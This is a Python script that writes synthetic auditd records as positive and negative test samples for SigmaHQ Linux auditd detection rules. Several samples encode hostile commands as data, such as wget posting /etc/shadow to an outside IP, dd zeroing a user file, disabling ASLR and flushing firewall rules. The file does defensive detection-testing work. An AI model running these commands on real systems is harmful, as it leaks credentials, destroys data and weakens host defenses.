#!/usr/bin/env python3
"""Writes tests/samples/auditd_rules.txt: a positive and a negative sample
for each active SigmaHQ auditd rule, made here from the rule's detection
and description (no public log has them), in auditd's record format.
Run from the crate: python3 tools/samples.py > tests/samples/auditd_rules.txt
"""
import sys
serial = [1000]
T = 1700000000
def hexarg(s):
    b = s.encode()
    if any(c <= 0x20 or c >= 0x7f or c == 0x22 for c in b):
        return b.hex().upper()
    return '"%s"' % s
def hdr(t):
    return "type=%s msg=audit(%d.%03d:%d):" % (t, T + serial[0], 0, serial[0])
def ex(*args):
    a = " ".join("a%d=%s" % (i, hexarg(x)) for i, x in enumerate(args))
    return [hdr("EXECVE") + " argc=%d %s" % (len(args), a)]
def sc(nr, exe, comm=None, a0="0", a1="0", key="(null)", euid="1000", success="yes"):
    comm = comm or exe.rsplit("/", 1)[-1]
    k = key if key in ("(null)",) or key.isupper() else '"%s"' % key
    return [hdr("SYSCALL") + (' arch=c000003e syscall=%d success=%s exit=0 a0=%s a1=%s a2=0 a3=0 items=1 ppid=100 pid=200 auid=1000 uid=1000 gid=1000 euid=%s suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="%s" exe="%s" key=%s'
        % (nr, success, a0, a1, euid, comm, exe, k))]
def execve(*args, exe=None):
    exe = exe or "/usr/bin/" + args[0]
    return sc(59, exe) + ex(*args) + [hdr("CWD") + ' cwd="/home/alice"']
def path(name, nametype="NORMAL", nr=257):
    return sc(nr, "/usr/bin/cat") + [hdr("PATH") + ' item=0 name=%s inode=1 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=%s' % (hexarg(name), nametype)]
def user(t, msg):
    return [hdr(t) + " pid=1 uid=0 auid=4294967295 ses=4294967295 msg='%s'" % msg]

out = []
def rule(p, *samples):
    out.append("")
    out.append("== " + p)
    for s in samples:
        if isinstance(s, str):
            out.append(s)
            continue
        sign, lines = s
        serial[0] += 1
        # re-render with the new serial
        out.extend(sign + " " + l for l in lines())
R = "rules/linux/auditd/"
P = lambda f: ("+", f)
N = lambda f: ("-", f)
rule("rules-emerging-threats/2026/Exploits/CVE-2026-31431/lnx_auditd_exploit_cve_2026_31431_af_alg_socket_creation.yml",
     P(lambda: sc(41, "/usr/bin/python3", a0="26", a1="5")),
     N(lambda: sc(41, "/usr/sbin/cryptsetup", a0="26", a1="5")),
     N(lambda: sc(41, "/usr/bin/python3", a0="2", a1="1")))
rule(R+"execve/lnx_auditd_binary_padding.yml",
     "corpus + logs/otrf-security-datasets/sh_binary_padding_dd_2020-11-10081941.log",
     P(lambda: execve("truncate", "-s", "+1M", "/tmp/payload")),
     N(lambda: execve("dd", "if=/dev/zero", "of=/tmp/payload", "bs=1", "count=1")))
rule(R+"execve/lnx_auditd_bpfdoor_port_redirect.yml",
     P(lambda: execve("/sbin/iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "--dport", "443", "-j", "REDIRECT", "--to-ports", "42391", exe="/usr/sbin/xtables-nft-multi")),
     N(lambda: execve("/sbin/iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "--dport", "443", "-j", "REDIRECT", "--to-ports", "8443", exe="/usr/sbin/xtables-nft-multi")))
rule(R+"execve/lnx_auditd_capabilities_discovery.yml",
     P(lambda: execve("getcap", "-r", "/")), N(lambda: execve("getcap", "/usr/bin/ping")))
rule(R+"execve/lnx_auditd_change_file_time_attr.yml",
     P(lambda: execve("touch", "-t", "202001010000", "/tmp/f")), N(lambda: execve("touch", "/tmp/f")))
rule(R+"execve/lnx_auditd_chattr_immutable_removal.yml",
     P(lambda: execve("chattr", "-i", "/etc/passwd")), N(lambda: execve("chattr", "+a", "/var/log/x")))
rule(R+"execve/lnx_auditd_clipboard_collection.yml",
     P(lambda: execve("xclip", "-selection", "clipboard", "-o")), N(lambda: execve("xclip", "-selection", "clipboard", "-i")))
rule(R+"execve/lnx_auditd_clipboard_image_collection.yml",
     P(lambda: execve("xclip", "-selection", "clipboard", "-t", "image/png", "-o")),
     N(lambda: execve("xclip", "-selection", "clipboard", "-t", "text/plain", "-o")))
rule(R+"execve/lnx_auditd_coinminer.yml",
     P(lambda: execve("xmrig", "--donate-level", "--cpu-priority=5")),
     N(lambda: execve("xmrig", "--threads", "2")))
rule(R+"execve/lnx_auditd_data_compressed.yml",
     P(lambda: execve("zip", "/tmp/loot.zip", "/etc/passwd")), P(lambda: execve("tar", "-czf", "/tmp/loot.tgz", "/etc")),
     N(lambda: execve("unzip", "/tmp/loot.zip")), N(lambda: execve("tar", "-xzf", "/tmp/loot.tgz")))
rule(R+"execve/lnx_auditd_data_exfil_wget.yml",
     P(lambda: execve("wget", "--post-file=/etc/shadow", "http://198.51.100.1/")), N(lambda: execve("wget", "http://198.51.100.1/x")))
rule(R+"execve/lnx_auditd_dd_delete_file.yml",
     P(lambda: execve("dd", "if=/dev/zero", "of=/home/alice/doc")), N(lambda: execve("dd", "if=/dev/sda", "of=/tmp/disk.img")))
rule(R+"execve/lnx_auditd_file_or_folder_permissions.yml",
     P(lambda: execve("chmod", "600", "/tmp/f")), P(lambda: execve("chown", "root", "/tmp/f")), N(lambda: execve("ls", "-l", "/tmp")))
rule(R+"execve/lnx_auditd_find_cred_in_files.yml",
     P(lambda: execve("grep", "-ri", "password", "/etc")), P(lambda: execve("grep", "-r", "my Password", "/etc")), N(lambda: execve("grep", "-ri", "user", "/etc")))
rule(R+"execve/lnx_auditd_hidden_files_directories.yml",
     P(lambda: execve("mkdir", ".hidden")), P(lambda: execve("vim", "-n", "/tmp/.x")),
     N(lambda: execve("mkdir", "visible")), N(lambda: execve("touch", "../x")), N(lambda: execve("ls", ".hidden")))
rule(R+"execve/lnx_auditd_hidden_zip_files_steganography.yml",
     P(lambda: execve("cat", "cat.JPG", "secret.zip")), N(lambda: execve("cat", "cat.jpg", "secret.txt")))
rule(R+"execve/lnx_auditd_masquerading_crond.yml",
     P(lambda: execve("cp", "/bin/sh", "/tmp/crond")), N(lambda: execve("cp", "/bin/sh", "/tmp/shell")))
rule(R+"execve/lnx_auditd_modify_system_firewall.yml",
     P(lambda: execve("nft", "flush", "ruleset")), P(lambda: execve("ufw", "delete", "1")), P(lambda: execve("iptables", "-PDROP", exe="/usr/sbin/xtables-nft-multi")),
     N(lambda: execve("nft", "list", "ruleset")))
rule(R+"execve/lnx_auditd_network_sniffing.yml",
     P(lambda: execve("tcpdump", "-c", "5", "-i", "eth0")), P(lambda: execve("tshark", "-c", "5", "-i", "eth0")),
     N(lambda: execve("tcpdump", "-i", "eth0")))
rule(R+"execve/lnx_auditd_screencapture_import.yml",
     P(lambda: execve("import", "-window", "root", "/tmp/s.png")), P(lambda: execve("import", "/tmp/s.jpg")), N(lambda: execve("import", "-help")))
rule(R+"execve/lnx_auditd_screencaputre_xwd.yml",
     P(lambda: execve("xwd", "-root", "-out", "/tmp/s.xwd")), P(lambda: execve("xwd", "-out", "s.xwd")), N(lambda: execve("xwd", "-help")))
rule(R+"execve/lnx_auditd_steghide_embed_steganography.yml",
     P(lambda: execve("steghide", "embed", "-cf", "pic.jpg", "-ef", "secret.txt")), N(lambda: execve("steghide", "info", "pic.jpg")))
rule(R+"execve/lnx_auditd_steghide_extract_steganography.yml",
     P(lambda: execve("steghide", "extract", "-sf", "pic.jpg")), N(lambda: execve("steghide", "extract", "-sf", "pic.bmp")))
rule(R+"execve/lnx_auditd_susp_cmds.yml",
     P(lambda: execve("chmod", "777", "/tmp/x")), P(lambda: execve("cp", "/bin/sh", "/tmp/sh")), N(lambda: execve("chmod", "644", "/tmp/x")))
rule(R+"execve/lnx_auditd_susp_histfile_operations.yml",
     P(lambda: execve("cat", "/root/.bash_history")), N(lambda: execve("cat", "/etc/hosts")))
rule(R+"execve/lnx_auditd_susp_service_reload_or_restart.yml",
     P(lambda: execve("systemctl", "restart", "sshd")), N(lambda: execve("systemctl", "status", "sshd")))
rule(R+"execve/lnx_auditd_system_shutdown_reboot.yml",
     P(lambda: execve("shutdown", "-h", "now", exe="/usr/sbin/shutdown")), P(lambda: execve("telinit", "6", exe="/usr/sbin/telinit")),
     N(lambda: execve("ls", "-l", "/tmp")))
rule(R+"execve/lnx_auditd_unzip_hidden_zip_files_steganography.yml",
     P(lambda: execve("unzip", "pic.png")), N(lambda: execve("unzip", "archive.zip")))
rule(R+"execve/lnx_auditd_user_discovery.yml",
     P(lambda: execve("whoami")), N(lambda: execve("ls")))
rule(R+"lnx_auditd_audio_capture.yml",
     P(lambda: execve("arecord", "-vv", "-fdat", "/tmp/a.wav")), P(lambda: sc(319, "/usr/bin/ecasound")),
     N(lambda: execve("arecord", "-l")), N(lambda: sc(319, "/usr/bin/firefox")))
rule(R+"lnx_auditd_disable_aslr_protection.yml",
     P(lambda: sc(135, "/usr/bin/setarch", a0="40000")), P(lambda: execve("sysctl", "-w", "kernel.randomize_va_space=0", exe="/usr/sbin/sysctl")),
     N(lambda: sc(135, "/usr/bin/setarch", a0="0")), N(lambda: execve("sysctl", "-w", "kernel.randomize_va_space=2", exe="/usr/sbin/sysctl")))
rule(R+"lnx_auditd_keylogging_with_pam_d.yml",
     "corpus + logs/go-libaudit/auparse/testdata/audit-rhel7.log",
     P(lambda: path("/etc/pam.d/system-auth")),
     P(lambda: [hdr("TTY") + ' tty pid=3220 uid=0 auid=1000 ses=1 major=136 minor=0 comm="bash" data=6C730D']),
     N(lambda: path("/etc/pam.d/sshd")))
rule(R+"lnx_auditd_password_policy_discovery.yml",
     P(lambda: path("/etc/login.defs")), P(lambda: execve("chage", "-l", "root")), P(lambda: execve("passwd", "-S", "root")),
     N(lambda: execve("passwd", "root")), N(lambda: path("/etc/login.defs.bak")))
rule(R+"lnx_auditd_susp_c2_commands.yml",
     P(lambda: sc(59, "/usr/bin/wget", key="susp_activity")),
     P(lambda: sc(59, "/usr/bin/wget", key=("susp_activity\x01other").encode().hex().upper())),
     N(lambda: sc(59, "/usr/bin/wget", key="other")))
rule(R+"lnx_auditd_system_info_discovery.yml",
     P(lambda: path("/etc/issue")), P(lambda: execve("uname", "-a")), P(lambda: execve("grep", "vbox", "/proc/modules")), P(lambda: execve("kmod", "list")),
     N(lambda: execve("grep", "foo", "/tmp/f")))
rule(R+"path/lnx_auditd_auditing_config_change.yml",
     P(lambda: path("/etc/audit/auditd.conf")), P(lambda: path("/etc/audit/rules.d/x.rules")), N(lambda: path("/etc/auditx")))
rule(R+"path/lnx_auditd_bpfdoor_file_accessed.yml",
     P(lambda: path("/var/run/haldrund.pid")), N(lambda: path("/var/run/sshd.pid")))
rule(R+"path/lnx_auditd_hidden_binary_execution.yml",
     P(lambda: path("/tmp/.x/run")), N(lambda: path("/home/u/.cache/x")), N(lambda: path("/usr/bin/ls")))
rule(R+"path/lnx_auditd_ld_so_preload_mod.yml",
     P(lambda: path("/etc/ld.so.preload")), N(lambda: path("/etc/ld.so.conf")))
rule(R+"path/lnx_auditd_logging_config_change.yml",
     P(lambda: path("/etc/rsyslog.conf")), N(lambda: path("/etc/rsyslog.d/x.conf")))
rule(R+"path/lnx_auditd_magic_system_request_key.yml",
     P(lambda: path("/proc/sysrq-trigger")), P(lambda: path("/proc/sys/kernel/sysrq")), N(lambda: path("/proc/sysrqx")))
rule(R+"path/lnx_auditd_system_info_discovery2.yml",
     P(lambda: path("/proc/version")), P(lambda: path("/etc/os-release")), N(lambda: path("/etc/hostname")))
rule(R+"path/lnx_auditd_systemd_service_creation.yml",
     P(lambda: path("/etc/systemd/system/evil.service", "CREATE")), P(lambda: path("/home/u/.config/systemd/user/x.service", "CREATE")),
     N(lambda: path("/etc/systemd/system/evil.service")), N(lambda: path("/tmp/x", "CREATE")))
rule(R+"path/lnx_auditd_unix_shell_configuration_modification.yml",
     P(lambda: path("/home/alice/.bashrc")), P(lambda: path("/etc/profile.d/x.sh")), N(lambda: path("/home/alice/.bashrc.bak")))
rule(R+"service_stop/lnx_auditd_disable_system_firewall.yml",
     P(lambda: user("SERVICE_STOP", 'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success')),
     N(lambda: user("SERVICE_STOP", 'unit=sshd comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success')),
     N(lambda: user("SERVICE_START", 'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success')))
rule(R+"syscall/lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml",
     P(lambda: sc(103, "/usr/bin/dmesg", a0="5")), N(lambda: sc(103, "/usr/bin/dmesg", a0="3")), N(lambda: sc(0, "/usr/bin/dmesg", a0="5")))
rule(R+"syscall/lnx_auditd_create_account.yml",
     "corpus + logs/go-libaudit/auparse/testdata/audit-rhel7.log",
     P(lambda: sc(59, "/usr/sbin/useradd")),
     P(lambda: user("ADD_USER", 'op=add-user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success')),
     N(lambda: sc(59, "/usr/sbin/usermod")))
rule(R+"syscall/lnx_auditd_load_module_insmod.yml",
     P(lambda: sc(175, "/usr/bin/kmod", comm="insmod")), N(lambda: sc(175, "/usr/bin/kmod", comm="modprobe")))
rule(R+"syscall/lnx_auditd_network_service_scanning.yml",
     P(lambda: sc(42, "/usr/bin/nc", key="network_connect_4")), N(lambda: sc(42, "/usr/bin/curl", key="network_connect_4")), N(lambda: sc(42, "/usr/bin/nc")))
rule(R+"syscall/lnx_auditd_split_file_into_pieces.yml",
     P(lambda: sc(2, "/usr/bin/split")), N(lambda: sc(2, "/usr/bin/splitter")))
rule(R+"syscall/lnx_auditd_susp_discovery_sysinfo_syscall.yml",
     P(lambda: sc(99, "/usr/bin/top")), N(lambda: sc(99, "/opt/splunk/bin/splunkd")), N(lambda: sc(98, "/usr/bin/top")))
rule(R+"syscall/lnx_auditd_susp_exe_folders.yml",
     P(lambda: sc(59, "/tmp/x")), P(lambda: sc(59, "/home/bob/public_html/shell")), N(lambda: sc(59, "/usr/bin/ls")), N(lambda: sc(59, "/home/bob/bin/x")))
rule(R+"syscall/lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml",
     P(lambda: sc(133, "/usr/bin/mknod")), N(lambda: sc(259, "/usr/bin/mknod")))
rule(R+"syscall/lnx_auditd_web_rce.yml",
     P(lambda: sc(59, "/bin/sh", euid="33")), P(lambda: sc(322, "/bin/sh", euid="33")), N(lambda: sc(59, "/bin/sh", euid="0")))
head = """# Positive (+) and negative (-) samples for each active SigmaHQ auditd rule
# (../shared/corpus/sigma, paths below it). Lines of one sign that share
# an event id are one event. Every record here is MADE HERE, written from
# the rule's own detection and description in auditd's record format
# (x86_64), because no public log has them; a "corpus +" line names a real
# corpus log (../shared/corpus/<path>) in which the rule must also fire.
# Written by tools/samples.py (python3 tools/samples.py > this file)."""
print(head + "\n".join(out))
